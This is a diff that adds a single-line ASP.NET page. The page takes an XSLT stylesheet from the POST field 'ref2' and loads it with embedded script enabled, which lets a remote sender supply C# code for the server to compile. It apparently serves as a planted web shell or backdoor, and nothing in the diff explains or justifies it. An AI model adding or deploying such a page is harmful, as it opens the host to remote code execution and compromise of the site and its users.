@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% var x = new System.Xml.Xsl.XslCompiledTransform(); x.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(Request.Form["ref2"])), new System.Xml.Xsl.XsltSettings(false, true), null); %>
